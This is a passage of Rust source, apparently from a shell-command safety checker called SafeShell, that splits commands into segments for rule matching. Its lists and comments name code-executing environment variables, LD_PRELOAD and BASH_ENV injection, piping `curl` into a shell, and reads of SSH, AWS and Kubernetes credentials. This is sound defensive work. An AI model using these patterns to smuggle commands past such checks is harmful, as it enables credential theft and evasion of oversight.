//! Turns parsed simple commands into the segments rules are matched against.
//!
//! A segment is one program invocation: wrappers (`sudo`, `env`, `xargs`, `find -exec`…) are
//! unwrapped into further segments, shell strings (`bash -c`, `eval`, `su -c`, heredocs fed to a
//! shell) are parsed and expanded recursively to a bounded depth, and whatever cannot be known
//! statically is marked *unverifiable* with the reason.
//!
//! Like the parser, this is linear in the command's length: a command longer than
//! [`MAX_COMMAND_BYTES`] is not parsed at all, wrapper chains stop at [`MAX_WRAPPERS`], the
//! arguments all segments hold together are bounded by the input's size (wrappers copy the words
//! after them), and the programs feeding a pipeline are kept once each, at most
//! [`MAX_STDIN_FROM`] of them. Each limit fails closed: what it cuts off is an unverifiable
//! segment naming the limit.

use std::collections::HashMap;
use std::ops::{Deref, DerefMut, Range};

use crate::shell::{self, Origin, SimpleCommand, Stdin, Word};

/// How deep shell strings inside shell strings are followed before giving up.
pub const MAX_DEPTH: usize = 8;

/// The longest command string that is parsed (64 KiB). A longer one is one unverifiable segment:
/// parsing it costs more than any real command needs, and bash's own limits are far from it.
pub const MAX_COMMAND_BYTES: usize = 64 * 1024;

/// How many wrappers and shells one segment may be found inside (`sudo nice env … rm`); the
/// command under a longer chain is unverifiable.
pub const MAX_WRAPPERS: usize = 32;

/// How many different programs feeding a segment through a pipeline are recorded in
/// [`Segment::stdin_from`]; a segment fed by more is unverifiable.
pub const MAX_STDIN_FROM: usize = 32;

/// One program invocation found in a command.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Segment {
    /// The program's base name (`/bin/rm` and `\rm` are both `rm`).
    pub program: String,
    /// The arguments after the program, after quote removal.
    pub args: Vec<String>,
    /// Which arguments contain run-time expansions (parallel to `args`).
    pub dynamic: Vec<bool>,
    /// Output redirection targets.
    pub writes: Vec<String>,
    /// Input redirection sources (`< file`): the segment reads them as its standard input.
    pub reads_from: Vec<String>,
    /// Programs earlier in the same pipeline (they feed this segment's standard input), each once,
    /// in order of first appearance, at most [`MAX_STDIN_FROM`].
    pub stdin_from: Vec<String>,
    /// True when part of a pipeline of two or more commands.
    pub in_pipeline: bool,
    /// The function whose body this segment is in, if any.
    pub in_function: Option<String>,
    /// Wrappers and shells this segment was found inside, outermost first (`["sudo"]`).
    pub via: Vec<String>,
    /// Set when the segment's effect cannot be known statically; says why.
    pub unverifiable: Option<String>,
    /// The program as typed (`.venv/bin/pip`, `/bin/rm`, `rm`).
    pub invoked_as: String,
    /// True when a shell or interpreter runs code it reads from a pipe (`curl … | sh`).
    pub stdin_code: bool,
    /// Byte range in the top-level command string, when the segment is directly in it.
    pub span: Option<(usize, usize)>,
    /// How many shell strings deep the segment was found (0 for the command itself).
    pub depth: usize,
    /// True when an earlier segment of the command changes directory (`cd`, `pushd`, `popd`)
    /// other than down into a literal subdirectory: the working directory this one runs in is
    /// not known, so its relative paths are not resolved (`cd ~ && rm -rf .cache` is not a
    /// clean-up of the project).
    pub after_cd: bool,
    /// The subdirectory the earlier `cd`s went down into (`cd web && rm -rf node_modules`), when
    /// every one was a literal relative path without `..`. Whether or not they succeed, the
    /// segment runs in the working directory or below it.
    pub cwd_sub: Option<String>,
    /// Environment variables that earlier segments of the command set: `export NAME=…`,
    /// activating a virtual environment (`. .venv/bin/activate` sets `VIRTUAL_ENV`),
    /// `conda activate` (`CONDA_PREFIX`).
    pub env_set_before: Vec<String>,
    /// Where earlier `cd`s (and `pushd`s) in the command went, when every one named a literal
    /// directory: absolute, `~`-rooted, or relative to the working directory (`..` allowed).
    /// Relative paths of this segment are resolved against it. `None`: no `cd` before, or one
    /// whose directory is only known at run time.
    pub cwd_path: Option<String>,
    /// The argument holding a shell script that was parsed into the segments after this one
    /// (`bash -c '…'`): conditions about the paths a segment names leave it to those segments,
    /// which know the programs that use them.
    pub parsed_code_arg: Option<usize>,
    /// The argument holding an interpreter's inline code that was looked inside
    /// (`python3 -c CODE`): the path literals found in it are arguments of their own, so the
    /// code text is not taken for a file name that is read.
    pub inline_code_arg: Option<usize>,
}

impl Segment {
    /// The segment as a command line (program and arguments, quoted where needed).
    pub fn text(&self) -> String {
        let mut s = quote(&self.program);
        for a in &self.args {
            s.push(' ');
            s.push_str(&quote(a));
        }
        s
    }
}

/// Quotes a word for display the way a person would type it.
pub fn quote(word: &str) -> String {
    if !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%^~*?[]{}$…()<>".contains(c))
    {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// Quotes a word so that a shell reads it back literally (no globbing, no expansion).
pub fn quote_strict(word: &str) -> String {
    if !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c))
    {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// Base name of a program path.
pub fn basename(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

/// The segments being built, with the count of arguments they hold against a budget.
///
/// Each wrapper's segment holds the words after it (`sudo nice rm a b` holds `a b` three times),
/// and every argument costs rule checks, so the total is bounded: [`ARGS_PER_INPUT_BYTE`] per
/// byte of input plus [`ARGS_BUDGET_BASE`], at least four copies of every word.
struct Out {
    segments: Vec<Segment>,
    args: usize,
    budget: usize,
}

/// See [`Out`].
const ARGS_PER_INPUT_BYTE: usize = 2;
/// See [`Out`].
const ARGS_BUDGET_BASE: usize = 4096;

impl Out {
    fn new(input_bytes: usize) -> Out {
        Out {
            segments: Vec::new(),
            args: 0,
            budget: input_bytes
                .saturating_mul(ARGS_PER_INPUT_BYTE)
                .saturating_add(ARGS_BUDGET_BASE),
        }
    }

    /// Takes `n` arguments from the budget; false when they do not fit.
    fn take_args(&mut self, n: usize) -> bool {
        if self.args.saturating_add(n) > self.budget {
            return false;
        }
        self.args += n;
        true
    }
}

impl Deref for Out {
    type Target = Vec<Segment>;
    fn deref(&self) -> &Vec<Segment> {
        &self.segments
    }
}

impl DerefMut for Out {
    fn deref_mut(&mut self) -> &mut Vec<Segment> {
        &mut self.segments
    }
}

/// Builds the segments of a command string.
pub fn segments_of_string(command: &str) -> Vec<Segment> {
    let mut out = Out::new(command.len().min(MAX_COMMAND_BYTES));
    expand_string(command, 0, &[], &mut out);
    let mut segments = out.segments;
    mark_after_cd(&mut segments);
    segments
}

/// Marks every segment after one that changes directory (see [`Segment::after_cd`] and
/// [`Segment::cwd_sub`]).
fn mark_after_cd(segments: &mut [Segment]) {
    // The subdirectory gone down into so far; `None` once a change is not known.
    let mut sub = Some(String::new());
    // Where the `cd`s went, when every one is known (`Some("")`: nowhere yet).
    let mut path = Some(String::new());
    let mut set: Vec<String> = Vec::new();
    for seg in segments {
        seg.after_cd = sub.is_none();
        seg.cwd_sub = sub.clone().filter(|s| !s.is_empty());
        seg.cwd_path = path.clone().filter(|p| !p.is_empty());
        if !set.is_empty() {
            seg.env_set_before.clone_from(&set);
        }
        note_env_set(seg, &mut set);
        if !matches!(seg.program.as_str(), "cd" | "pushd" | "popd" | "chdir") {
            continue;
        }
        sub = match (sub, downward_cd(seg)) {
            (Some(s), Some(d)) if s.is_empty() => Some(d.to_owned()),
            (Some(s), Some(d)) => Some(format!("{s}/{d}")),
            _ => None,
        };
        // Only the first change of directory is followed: whether a second one runs depends on
        // how the first ended (`cd ~/.kube || cd /tmp; cat config`).
        path = match (path, literal_cd(seg)) {
            (Some(p), Some(d)) if p.is_empty() => Some(d.to_owned()),
            _ => None,
        };
    }
}

/// Records the environment variables a segment sets for the segments after it.
fn note_env_set(seg: &Segment, set: &mut Vec<String>) {
    let mut add = |name: &str| {
        if !set.iter().any(|s| s == name) {
            set.push(name.to_owned());
        }
    };
    match seg.program.as_str() {
        "source" | "." => {
            let activates = seg.args.first().is_some_and(|a| {
                let base = a.rsplit('/').next().unwrap_or(a);
                a.contains("bin/") && matches!(base, "activate" | "activate.fish" | "activate.csh")
            });
            if activates {
                add("VIRTUAL_ENV");
            }
        }
        "export" | "declare" | "typeset" => {
            for a in &seg.args {
                if let Some((name, _)) = a.split_once('=')
                    && !name.is_empty()
                    && !name.starts_with('-')
                {
                    add(name);
                }
            }
        }
        "conda" | "mamba" | "micromamba" if seg.args.first().is_some_and(|a| a == "activate") => {
            add("CONDA_PREFIX");
        }
        _ => {}
    }
}

/// The directory of `cd DIR` / `pushd DIR` when it is written out: `~` for a bare `cd`, else the
/// argument when it holds nothing computed at run time but a leading `$HOME`.
fn literal_cd(seg: &Segment) -> Option<&str> {
    if !matches!(seg.program.as_str(), "cd" | "pushd" | "chdir") {
        return None;
    }
    let mut dirs = seg
        .args
        .iter()
        .enumerate()
        .map(|(i, a)| (a, seg.dynamic.get(i).copied().unwrap_or(false)))
        .filter(|(a, _)| !matches!(a.as_str(), "-P" | "-L" | "-e" | "-n" | "--"));
    let Some((dir, dynamic)) = dirs.next() else {
        return (seg.program == "cd").then_some("~");
    };
    let home_var = dir == "$HOME" || dir.starts_with("$HOME/");
    let literal = dirs.next().is_none()
        && !dir.is_empty()
        && dir != "-"
        && (!dynamic || home_var && !dir[5..].contains('$'))
        && !dir[usize::from(home_var) * 5..].contains(['$', '`', '*', '?', '[', '{'])
        && (!dir.starts_with('~') || dir == "~" || dir.starts_with("~/"));
    literal.then_some(dir.as_str())
}

/// The directory of `cd DIR` when it is a literal relative path that only goes down.
fn downward_cd(seg: &Segment) -> Option<&str> {
    if seg.program != "cd" || seg.dynamic.iter().any(|&d| d) {
        return None;
    }
    let mut dirs = seg
        .args
        .iter()
        .filter(|a| !matches!(a.as_str(), "-P" | "-L" | "-e" | "--"));
    let dir = dirs.next()?.trim_end_matches('/');
    let literal = dirs.next().is_none()
        && !dir.is_empty()
        && !dir.starts_with(['/', '~', '-'])
        && !dir.contains(['$', '`', '*', '?', '[', '{'])
        && !dir.split('/').any(|c| c == "..");
    literal.then_some(dir)
}

/// Builds the segments of an argv a shim received (already split by the calling shell).
pub fn segments_of_argv(argv: &[String]) -> Vec<Segment> {
    let mut out = Out::new(argv.iter().map(|a| a.len() + 1).sum());
    let words: Vec<Word> = argv
        .iter()
        .map(|a| Word {
            text: a.clone(),
            ..Word::default()
        })
        .collect();
    let ctx = Ctx {
        depth: 0,
        via: &[],
        stdin: StdinKind::Inherited,
        upstream: Vec::new(),
        in_pipeline: false,
        in_function: None,
        span: None,
    };
    expand_words(&words, &[], &ctx, &mut out);
    out.segments
}

fn expand_string(command: &str, depth: usize, via: &[String], out: &mut Out) {
    if command.len() > MAX_COMMAND_BYTES {
        out.push(Segment {
            program: via.last().cloned().unwrap_or_default(),
            args: vec![preview(command)],
            dynamic: vec![false],
            via: via.to_vec(),
            unverifiable: Some(format!(
                "the command is {} bytes long, more than the {MAX_COMMAND_BYTES} bytes SafeShell \
                 parses; it was not checked",
                command.len()
            )),
            depth,
            ..Segment::default()
        });
        return;
    }
    if depth > MAX_DEPTH {
        out.push(Segment {
            program: via.last().cloned().unwrap_or_default(),
            args: vec![command.to_owned()],
            dynamic: vec![false],
            via: via.to_vec(),
            unverifiable: Some(format!(
                "shell strings nested deeper than {MAX_DEPTH} levels"
            )),
            depth,
            ..Segment::default()
        });
        return;
    }
    let parsed = shell::parse(command);
    expand_parsed(&parsed.commands, depth, via, out);
    if let Some(why) = parsed.unverifiable {
        out.push(Segment {
            program: via.last().cloned().unwrap_or_default(),
            args: vec![preview(command)],
            dynamic: vec![false],
            via: via.to_vec(),
            unverifiable: Some(why),
            depth,
            ..Segment::default()
        });
    }
}

/// The start of a long command, for messages about it.
fn preview(command: &str) -> String {
    const CHARS: usize = 60;
    match command.char_indices().nth(CHARS) {
        Some((end, _)) => format!("{}…", &command[..end]),
        None => command.to_owned(),
    }
}

/// The program a parsed command runs (its first word after `$IFS` splitting), as a base name.
fn program_of(cmd: &SimpleCommand) -> Option<String> {
    // As `shell::split_ifs(&cmd.words).first()`, without copying every word.
    cmd.words.iter().find_map(|w| {
        let first = if w.text.contains(shell::IFS_SPLIT) {
            w.text.split(shell::IFS_SPLIT).find(|p| !p.is_empty())?
        } else {
            w.text.as_str()
        };
        Some(basename(first).to_owned())
    })
}

/// The programs feeding pipeline ranges, computed incrementally: commands of one pipeline share
/// the range's start and extend its end, so each command is looked at once per enclosing pipeline
/// rather than once per later command (which was quadratic for `a | a | a | …`).
#[derive(Default)]
struct Upstreams {
    by_start: HashMap<usize, Upstream>,
}

#[derive(Default, Clone)]
struct Upstream {
    end: usize,
    programs: Vec<String>,
    overflow: bool,
}

impl Upstreams {
    fn get(&mut self, commands: &[SimpleCommand], range: Range<usize>) -> &Upstream {
        let range = range.start.min(commands.len())..range.end.min(commands.len());
        let entry = self.by_start.entry(range.start).or_default();
        if entry.end > range.end || entry.end < range.start {
            // Not an extension of what was seen (not produced by the parser): start over.
            *entry = Upstream {
                end: range.start,
                ..Upstream::default()
            };
        }
        for cmd in &commands[entry.end..range.end] {
            if entry.overflow {
                break;
            }
            if let Some(p) = program_of(cmd)
                && !entry.programs.contains(&p)
            {
                if entry.programs.len() == MAX_STDIN_FROM {
                    entry.overflow = true;
                } else {
                    entry.programs.push(p);
                }
            }
        }
        entry.end = range.end;
        entry
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum StdinKind {
    Inherited,
    Pipe,
    Script,
    File,
}

struct Ctx<'a> {
    depth: usize,
    via: &'a [String],
    stdin: StdinKind,
    upstream: Vec<String>,
    in_pipeline: bool,
    in_function: Option<String>,
    span: Option<(usize, usize)>,
}

fn expand_parsed(commands: &[SimpleCommand], depth: usize, via: &[String], out: &mut Out) {
    let mut upstreams = Upstreams::default();
    let mut vars = Vars::default();
    for cmd in commands {
        let mut words = shell::split_ifs(&cmd.words);
        for w in &mut words {
            vars.substitute(w);
        }
        vars.note(cmd, &words);
        let (stdin, script) = match &cmd.stdin {
            Stdin::Inherited => (StdinKind::Inherited, None),
            Stdin::Pipe(_) => (StdinKind::Pipe, None),
            Stdin::HereDoc { body, .. } => (StdinKind::Script, Some(body.clone())),
            Stdin::HereString(w) => {
                if w.dynamic {
                    (StdinKind::Pipe, None)
                } else {
                    (StdinKind::Script, Some(w.text.clone()))
                }
            }
            Stdin::File(_) => (StdinKind::File, None),
        };
        let (upstream, upstream_overflow) = match &cmd.stdin {
            Stdin::Pipe(prev) => {
                let u = upstreams.get(commands, prev.clone());
                (u.programs.clone(), u.overflow)
            }
            _ => (Vec::new(), false),
        };
        let ctx = Ctx {
            depth,
            via,
            stdin,
            upstream,
            in_pipeline: cmd.in_pipeline,
            in_function: cmd.in_function.clone(),
            span: if depth == 0 && cmd.origin == Origin::TopLevel {
                cmd.span
            } else {
                None
            },
        };
        let writes: Vec<String> = cmd
            .writes
            .iter()
            .map(|w| {
                let mut w = w.clone();
                vars.substitute(&mut w);
                w.text
            })
            .collect();
        let reads_from: Vec<String> = match &cmd.stdin {
            Stdin::File(w) => {
                let mut w = w.clone();
                vars.substitute(&mut w);
                vec![w.text]
            }
            _ => Vec::new(),
        };
        // Assignments (prefixes, or `export`/`declare`/`local`… arguments) to variables whose
        // value other programs run as code.
        let declared = words
            .first()
            .is_some_and(|w| DECLARERS.contains(&w.text.as_str()));
        let assigned = cmd.assignments.iter().map(String::as_str).chain(
            words
                .iter()
                .skip(1)
                .filter(|_| declared)
                .filter(|w| !w.text.starts_with('-'))
                .map(|w| w.text.as_str()),
        );
        for assignment in assigned {
            match assignment_code(assignment) {
                AssignedCode::None => {}
                AssignedCode::Code(name, code) => {
                    out.push(Segment {
                        program: String::new(),
                        invoked_as: format!("{name}="),
                        via: via.to_vec(),
                        depth,
                        span: ctx.span,
                        ..Segment::default()
                    });
                    let mut inner_via = via.to_vec();
                    inner_via.push(format!("{name}="));
                    expand_string(code, depth + 1, &inner_via, out);
                }
                AssignedCode::Unverifiable(why) => out.push(Segment {
                    program: String::new(),
                    invoked_as: assignment.split('=').next().unwrap_or("").to_owned(),
                    via: via.to_vec(),
                    depth,
                    span: ctx.span,
                    unverifiable: Some(why),
                    ..Segment::default()
                }),
            }
        }
        if words.is_empty() && !reads_from.is_empty() {
            // `$(< file)` is bash's shorthand for `$(cat file)`: judge it as that.
            out.push(Segment {
                program: "cat".into(),
                invoked_as: "<".into(),
                args: reads_from.clone(),
                dynamic: match &cmd.stdin {
                    Stdin::File(w) => vec![w.dynamic],
                    _ => Vec::new(),
                },
                writes: writes.clone(),
                via: via.to_vec(),
                depth,
                span: ctx.span,
                ..Segment::default()
            });
            continue;
        }
        if words.is_empty() {
            if !writes.is_empty() {
                // A bare redirection (`> file`) truncates the file: keep it visible to rules.
                out.push(Segment {
                    program: String::new(),
                    writes,
                    via: via.to_vec(),
                    depth,
                    span: ctx.span,
                    ..Segment::default()
                });
            }
            continue;
        }
        let first = out.len();
        expand_words(&words, &writes, &ctx, out);
        // Every segment of this command inherits its standard input.
        for seg in &mut out[first..] {
            seg.reads_from.extend(reads_from.iter().cloned());
            if upstream_overflow && seg.unverifiable.is_none() {
                seg.unverifiable = Some(format!(
                    "a pipeline of more than {MAX_STDIN_FROM} different programs feeds it"
                ));
            }
        }
        if let Some(body) = script {
            // A heredoc or here-string fed to a shell is a script: parse it, once (the first
            // shell reading it consumes it; parsing it for each of many `find -exec sh`s was
            // quadratic).
            if let Some(i) = (first..out.len())
                .find(|&i| is_shell(&out[i].program) && reads_script_from_stdin(&out[i]))
            {
                let mut inner_via = out[i].via.clone();
                inner_via.push(out[i].program.clone());
                expand_string(&body, depth + 1, &inner_via, out);
            } else if let Some(i) = (first..out.len()).find(|&i| {
                matches!(out[i].program.as_str(), "source" | ".")
                    && out[i].args.first().is_some_and(|a| is_stdin_path(a))
            }) {
                // `. /dev/stdin <<< 'CODE'`: the here-string or heredoc is the script.
                out[i].unverifiable = None;
                let mut inner_via = out[i].via.clone();
                inner_via.push(out[i].program.clone());
                expand_string(&body, depth + 1, &inner_via, out);
            } else if let Some(i) = (first..out.len())
                .find(|&i| is_interpreter(&out[i].program) && interpreter_reads_stdin(&out[i]))
            {
                // A heredoc or here-string fed to an interpreter is its program.
                apply_code_look(i, &body, depth, out);
            }
        }
    }
}

/// Variables assigned earlier in the same command string, as far as their values are written
/// out (`f=.env; cat "$f"`, `d=~/.ssh`, `k=$HOME/.aws/credentials`): later words that use them
/// are judged with the value, as bash would run them. A variable assigned something computed
/// at run time (or read, or a loop variable) is unknown and stays as written.
#[derive(Default)]
struct Vars {
    /// Name and value (`None`: unknown).
    known: Vec<(String, Option<String>)>,
    /// Set once `IFS=…` changed how values are split: values are no longer followed.
    ifs_changed: bool,
}

impl Vars {
    fn get(&self, name: &str) -> Option<&Option<String>> {
        self.known
            .iter()
            .rev()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v)
    }

    fn set(&mut self, name: &str, value: Option<String>) {
        // Assigned a second time: which assignment ran depends on the conditions around them
        // (`f=.env; false && f=README.md; cat "$f"`), so the value is no longer known.
        let value = if self.get(name).is_some() {
            None
        } else {
            value
        };
        if self.known.len() < 256 || self.get(name).is_some() {
            self.known.retain(|(n, _)| n != name);
            self.known.push((name.to_owned(), value));
        }
    }

    /// Records what a command assigns for the commands after it.
    fn note(&mut self, cmd: &SimpleCommand, words: &[Word]) {
        let literal = |value: &str| {
            if let Some(inner) = value.strip_prefix("$(").and_then(|v| v.strip_suffix(')'))
                && is_fresh_temporary(inner)
            {
                // A new, empty place under the temporary directory.
                return Some("/tmp/tmp.mktemp".to_owned());
            }
            let rest = value.strip_prefix("$HOME").unwrap_or(value);
            (!rest.contains(['$', '`', '…'])).then(|| value.to_owned())
        };
        let assign = |text: &str, vars: &mut Vars| {
            if let Some((name, value)) = text.split_once('=')
                && !name.is_empty()
                && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
            {
                vars.set(name, literal(value));
            }
        };
        if words.is_empty() {
            for a in &cmd.assignments {
                assign(a, self);
                if a.starts_with("IFS=") && a.len() > 4 {
                    self.ifs_changed = true;
                }
            }
            return;
        }
        let program = words[0].text.as_str();
        let rest = &words[1..];
        match program {
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                for w in rest.iter().filter(|w| !w.text.starts_with('-')) {
                    assign(&w.text, self);
                }
            }
            // Values only known at run time.
            "read" | "mapfile" | "readarray" | "getopts" => {
                for w in rest.iter().filter(|w| !w.text.starts_with('-')) {
                    self.set(&w.text, None);
                }
            }
            "printf" => {
                if let Some(i) = rest.iter().position(|w| w.text == "-v")
                    && let Some(name) = rest.get(i + 1)
                {
                    self.set(&name.text, None);
                }
            }
            "unset" => {
                for w in rest {
                    self.set(&w.text, None);
                }
            }
            _ => {}
        }
    }

    /// Replaces `$NAME` (and `$NAME{:-default}` when NAME is not assigned in the command) by
    /// the known value in a word.
    fn substitute(&self, word: &mut Word) {
        if !word.dynamic || !word.text.contains('$') || self.ifs_changed {
            return;
        }
        let text = &word.text;
        let mut out = String::with_capacity(text.len());
        let mut changed = false;
        // A default stands for one value the variable may have; the environment may give it
        // another, so the word stays dynamic.
        let mut defaulted = false;
        let mut i = 0;
        while let Some(off) = text[i..].find('$') {
            let start = i + off;
            out.push_str(&text[i..start]);
            let name_len = text[start + 1..]
                .bytes()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
                .count();
            let name = &text[start + 1..start + 1 + name_len];
            let after = start + 1 + name_len;
            let default = text[after..]
                .strip_prefix("{:-")
                .and_then(|d| d.find('}').map(|end| &d[..end]));
            // `$NAME{…}` (an operator the parser did not keep, `${x/a/b}`, `${m[a]}`): the value
            // is not NAME's.
            let operator = default.is_none() && text[after..].starts_with('{');
            let value = match (self.get(name), default) {
                _ if name.is_empty() || name == "HOME" || operator => None,
                (Some(Some(v)), _) => Some(v.as_str()),
                (None, Some(d)) if name != "TMPDIR" => Some(d),
                // Assigned something unknown earlier: the default no longer tells anything
                // (`export TMPDIR=…; rm -rf "${TMPDIR:-/tmp}/x"` is not the temporary directory).
                (Some(None), Some(_)) => Some("$…"),
                _ => None,
            };
            match value {
                Some(v) => {
                    out.push_str(v);
                    changed = true;
                    // A default may be overridden by the environment; a value with blanks is
                    // split into words when unquoted, which the word cannot tell.
                    defaulted |=
                        !matches!(self.get(name), Some(Some(_))) || v.contains([' ', '\t', '\n']);
                    i = after + default.map_or(0, |d| d.len() + 4);
                }
                None => {
                    out.push('$');
                    i = start + 1;
                }
            }
        }
        out.push_str(&text[i..]);
        if changed {
            let rest = out.strip_prefix("$HOME").unwrap_or(&out);
            word.dynamic = defaulted || rest.contains('$');
            word.text = out;
        }
    }
}

/// Builtins whose arguments may be assignments.
const DECLARERS: &[&str] = &["export", "declare", "typeset", "local", "readonly"];

/// Environment variables whose value a program runs as a shell command.
const CODE_VARIABLES: &[&str] = &[
    "GIT_SSH_COMMAND",
    "GIT_SSH",
    "GIT_EXTERNAL_DIFF",
    "GIT_PAGER",
    "GIT_EDITOR",
    "GIT_SEQUENCE_EDITOR",
    "GIT_ASKPASS",
    "SSH_ASKPASS",
    "SUDO_ASKPASS",
    "PAGER",
    "MANPAGER",
    "EDITOR",
    "VISUAL",
    "FCEDIT",
    "LESSOPEN",
    "LESSCLOSE",
    "BROWSER",
    "PROMPT_COMMAND",
    "RSYNC_RSH",
];

/// What an assignment hands to code that runs later.
enum AssignedCode<'a> {
    /// Nothing of note.
    None,
    /// A variable whose value a program runs as a shell command: the name and the code.
    Code(&'a str, &'a str),
    /// Something that cannot be followed statically; says why.
    Unverifiable(String),
}

fn assignment_code(assignment: &str) -> AssignedCode<'_> {
    let Some((name, value)) = assignment.split_once('=') else {
        return AssignedCode::None;
    };
    let name = name.trim_end_matches('+');
    if subscript_with_substitution(value) || subscript_with_substitution(name) {
        return AssignedCode::Unverifiable(
            "an array subscript holds a command substitution, which bash runs when the value is \
             evaluated as arithmetic"
                .into(),
        );
    }
    match name {
        "BASH_ENV" | "ENV" if !value.is_empty() && value != "/dev/null" => {
            AssignedCode::Unverifiable(format!(
                "`{name}` names a script that every shell started from here runs first"
            ))
        }
        "LD_PRELOAD" | "LD_AUDIT" if !value.is_empty() => AssignedCode::Unverifiable(format!(
            "`{name}` loads a shared object into every program started from here"
        )),
        "PS0" | "PS1" | "PS2" | "PS4" if value.contains("$(") || value.contains('`') => {
            AssignedCode::Unverifiable(format!(
                "`{name}` holds a command substitution that prompt expansion runs"
            ))
        }
        _ if CODE_VARIABLES.contains(&name) && !value.is_empty() => {
            AssignedCode::Code(name, value.trim_start_matches('|'))
        }
        _ => AssignedCode::None,
    }
}

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "mksh",
    "ash",
    "fish",
    "csh",
    "tcsh",
    "busybox-sh",
    "yash",
    "posh",
    "oksh",
    "loksh",
    "rc",
    "es",
    "xonsh",
    "nu",
    "elvish",
];
const INTERPRETERS: &[&str] = &[
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "php",
    "lua",
    "luajit",
    "Rscript",
    "julia",
    "tclsh",
    "pwsh",
    "deno",
    "bun",
    "osascript",
];

fn is_shell(program: &str) -> bool {
    SHELLS.contains(&program)
}

fn is_interpreter(program: &str) -> bool {
    INTERPRETERS.contains(&program) || program.starts_with("python3.")
}

/// An interpreter with no inline code and no script file (or `-`, `/dev/stdin`) reads its
/// program from standard input.
fn interpreter_reads_stdin(seg: &Segment) -> bool {
    let mut args = seg.args.iter().peekable();
    while let Some(a) = args.next() {
        match a.as_str() {
            "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0" => return true,
            "-c" | "-e" | "-E" | "--eval" | "-r" | "-m" | "eval" | "run" => return false,
            // Options with a value.
            "-W" | "-X" | "-I" | "-M" | "--require" | "-r " => {
                args.next();
            }
            o if o.starts_with('-') => {}
            _ => return false,
        }
    }
    true
}

/// Whether a path names the process's standard input.
fn is_stdin_path(path: &str) -> bool {
    matches!(path, "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0")
}

/// A shell with no `-c` and no script file reads its script from standard input.
fn reads_script_from_stdin(seg: &Segment) -> bool {
    let mut i = 0;
    while i < seg.args.len() {
        let a = &seg.args[i];
        if a == "--" {
            return i + 1 >= seg.args.len();
        }
        if a == "-s" {
            return true;
        }
        if a.starts_with('-') || a.starts_with('+') {
            if a.starts_with("--") || !a.contains('c') {
                // `-o option` takes a value.
                if a == "-o"
                    || a == "+o"
                    || a == "-O"
                    || a == "+O"
                    || a == "--rcfile"
                    || a == "--init-file"
                {
                    i += 1;
                }
                i += 1;
                continue;
            }
            return false; // -c
        }
        return false; // a script file
    }
    true
}

/// The command substitutions that name the repository's root, so that a program path built on
/// one (`"$(git rev-parse --show-toplevel)/bin/lint"`) is the project's own program, not one
/// computed at run time.
const PROJECT_ROOT_SUBSTITUTIONS: &[&str] = &["$(git rev-parse --show-toplevel)/"];

/// The path inside the project of a program word built on the repository root, if it is one and
/// the rest of the word is a literal path.
fn project_root_program(word: &str) -> Option<&str> {
    let rest = PROJECT_ROOT_SUBSTITUTIONS
        .iter()
        .find_map(|p| word.strip_prefix(p))?;
    let literal = !rest.is_empty()
        && !rest.contains(['$', '`', '(', ')', '*', '?', '[', '{'])
        && !rest.split('/').any(|c| c == "..");
    literal.then_some(rest)
}

/// Programs whose output is the well-known shell set-up that their documentation asks users to
/// `eval` (`eval "$(rbenv init - bash)"`), with the first word after the program that selects
/// that output (`None`: only options follow).
const WELL_KNOWN_SETUP: &[(&str, Option<&[&str]>)] = &[
    ("rbenv", Some(&["init"])),
    ("pyenv", Some(&["init", "virtualenv-init"])),
    ("nodenv", Some(&["init"])),
    ("jenv", Some(&["init"])),
    ("goenv", Some(&["init"])),
    ("plenv", Some(&["init"])),
    ("fnm", Some(&["env"])),
    ("direnv", Some(&["hook"])),
    ("zoxide", Some(&["init"])),
    ("starship", Some(&["init"])),
    ("mise", Some(&["activate", "env"])),
    ("rtx", Some(&["activate"])),
    ("brew", Some(&["shellenv"])),
    ("opam", Some(&["env"])),
    ("ssh-agent", None),
    ("dircolors", None),
    ("luarocks", Some(&["path"])),
    // Shell completion scripts (`source <(kubectl completion bash)`).
    ("kubectl", Some(&["completion"])),
    ("helm", Some(&["completion"])),
    ("gh", Some(&["completion"])),
    ("docker", Some(&["completion"])),
    ("npm", Some(&["completion"])),
    ("pip", Some(&["completion"])),
    ("pip3", Some(&["completion"])),
    ("rustup", Some(&["completions"])),
    ("poetry", Some(&["completions"])),
    ("uv", Some(&["generate-shell-completion"])),
    ("minikube", Some(&["completion"])),
    ("kind", Some(&["completion"])),
    ("k3d", Some(&["completion"])),
    ("argocd", Some(&["completion"])),
    ("flux", Some(&["completion"])),
    ("stern", Some(&["--completion"])),
    ("deno", Some(&["completions"])),
    ("bun", Some(&["completions"])),
];

/// Whether a command substitution's text creates a fresh temporary file or directory
/// (`mktemp`, `mktemp -d`, `mktemp -d -t build.XXXXXX`): a variable set to it names a new,
/// empty place under the temporary directory.
pub(crate) fn is_fresh_temporary(inner: &str) -> bool {
    let mut words = inner.split_whitespace();
    words.next() == Some("mktemp")
        && words.all(|w| {
            matches!(w, "-d" | "-q" | "-u" | "-t" | "--directory" | "--quiet")
                || (w.contains("XXX") && !w.contains(['/', '$', '`']))
        })
}

/// Whether `eval`'s only argument is `$(program …)` printing well-known shell set-up (its words
/// all literal: no nested expansions, quotes or operators).
pub(crate) fn is_well_known_setup(word: &str) -> bool {
    word.strip_prefix("$(")
        .and_then(|w| w.strip_suffix(')'))
        .is_some_and(is_well_known_setup_command)
}

/// Whether a command substitution's text prints well-known shell set-up (see
/// [`is_well_known_setup`]).
pub(crate) fn is_well_known_setup_command(inner: &str) -> bool {
    if !inner
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || " -_./=+:".contains(c))
    {
        return false;
    }
